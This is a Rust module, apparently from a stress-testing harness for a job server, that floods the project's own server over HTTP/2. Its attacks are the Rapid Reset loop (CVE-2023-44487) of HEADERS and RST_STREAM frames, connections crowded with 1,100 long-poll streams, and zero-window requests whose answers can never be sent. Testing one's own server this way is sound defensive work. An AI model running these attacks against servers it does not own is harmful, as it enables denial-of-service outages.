//! HTTP/2 streams: reset, many, and with answers that may not be sent.

use std::time::Duration;

use kjob_proto::{CreateJobRequest, Encoding, GetJobRequest, Record};
use tokio::time::sleep;

use super::Field;
use super::slow::job_with_result;
use crate::siege::http1::Connection;
use crate::siege::http2::{
    END_HEADERS, END_STREAM, Frames, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM, head_block,
};

/// Connections that reset.
const RESETTING: usize = 10;

/// Connections with as many streams as they may have.
const CROWDED: usize = 50;

/// Streams of one of them: more than a connection may have.
const STREAMS: u32 = 1100;

/// The error code of a reset that means nothing.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Bytes of a batch.
const BATCH: usize = 64 << 10;

/// Bytes of an answer that does not count against the memory for bodies.
const SMALL_ANSWER: usize = 60 << 10;

/// Opens a stream and resets it, and opens the next (CVE-2023-44487).
pub(super) async fn rapid_reset(field: Field) {
    let attacker = |field: Field, _| async move {
        let Ok(mut frames) = Frames::open(field.server, &[], &field.tally).await else {
            return field.tally.answered("not connected");
        };
        let _reading = frames.read_on();
        let block = head_block("/show/system/properties", "application/json");
        let mut stream = 1;
        while !field.is_over() && stream < 1 << 30 {
            let mut count = 0;
            while frames.batched() < BATCH {
                frames.put(HEADERS, END_HEADERS | END_STREAM, stream, &block);
                frames.put(RST_STREAM, 0, stream, &CANCEL);
                stream += 2;
                count += 1;
            }
            if frames.flush().await.is_err() {
                return;
            }
            field.tally.sent(count, 0);
        }
    };
    field.again_and_again(RESETTING, attacker).await;
}

/// Long polls of a job that does not end.
pub(super) async fn many(field: Field) {
    let Some(id) = endless_job(&field).await else {
        return field.tally.violation("no job to wait for");
    };
    let request = GetJobRequest {
        job_id: id,
        options: [("wait_ms", "300000")].into_iter().collect(),
    };
    let body = request.encode_to_bytes();
    ask_for(field, body.to_vec(), &[]).await;
}

/// Answers below the size that counts, as many as may be, none of which may be sent.
pub(super) async fn zero_window(field: Field) {
    let Some(job_id) = job_with_result(&field, &"x".repeat(SMALL_ANSWER)).await else {
        return field.tally.violation("no job to ask for");
    };
    let request = GetJobRequest {
        job_id,
        ..Default::default()
    };
    let body = request.encode_to_bytes();
    ask_for(field, body.to_vec(), &[(INITIAL_WINDOW_SIZE, 0)]).await;
}

/// Sends the same request on as many streams as it can, and stays until the end.
async fn ask_for(field: Field, body: Vec<u8>, settings: &'static [(u16, u32)]) {
    let attacker = move |field: Field, _| {
        let body = body.clone();
        async move {
            let Ok(mut frames) = Frames::open(field.server, settings, &field.tally).await else {
                return field.tally.answered("not connected");
            };
            let reading = frames.read_on();
            for number in 0..STREAMS {
                frames.request(1 + 2 * number, "/get/job", &body);
                if frames.batched() >= BATCH && frames.flush().await.is_err() {
                    return;
                }
            }
            field.tally.sent(u64::from(STREAMS), 0);
            let _ = frames.flush().await;
            while !field.is_over() {
                if reading
                    .as_ref()
                    .is_none_or(tokio::task::JoinHandle::is_finished)
                {
                    return field.tally.answered("closed by the server");
                }
                sleep(Duration::from_millis(50)).await;
            }
        }
    };
    field.again_and_again(CROWDED, attacker).await;
}

/// A job that does not end while the attack lasts.
async fn endless_job(field: &Field) -> Option<i64> {
    let mut connection = Connection::open(field.server).await.ok()?;
    let request = CreateJobRequest {
        endpoint: "/demo/sleep".into(),
        request_encoding: "json".into(),
        data_str: "{\"millis\":600000}".into(),
        options: [("timeout_ms", "600000")].into_iter().collect(),
        ..Default::default()
    };
    let body = request.encode_to_bytes();
    let binary = Encoding::Binary;
    let reply = connection
        .post("/create/job", binary.content_type(), &body)
        .await
        .ok()?;
    let limits = kjob_proto::Limits::default();
    let created =
        kjob_proto::Reply::<kjob_proto::CreateJobResponse>::decode(binary, reply.body, &limits);
    Some(created.ok()?.ok()?.job_id)
}
